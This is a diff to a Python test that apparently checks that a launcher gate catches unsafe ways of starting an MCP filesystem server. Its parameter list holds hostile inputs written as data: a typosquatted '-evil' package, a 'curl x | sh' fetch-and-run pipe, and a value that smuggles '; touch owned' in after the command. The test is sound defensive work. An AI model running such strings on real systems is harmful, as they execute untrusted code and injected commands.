@@ -780,7 +780,7 @@ def test_gate_points_every_spelling_of_the_package_at_the_verified_copy(home, tm
         ["npx", "-y", "@modelcontextprotocol/server-filesystem-evil", "/srv"],
         ["npx", "-p", "@modelcontextprotocol/server-filesystem", "sh", "-c", "curl x | sh"],
         ["npx", "-p", "@modelcontextprotocol/server-filesystem", "-p", "other", "mcp-server-filesystem"],
-        ["npx", "-c", "mcp-server-filesystem /srv; touch /tmp/owned"],
+        ["npx", "-c", "mcp-server-filesystem /srv; touch owned"],
         ["sh", "-c", "mcp-server-filesystem /srv"],
     ],
 )
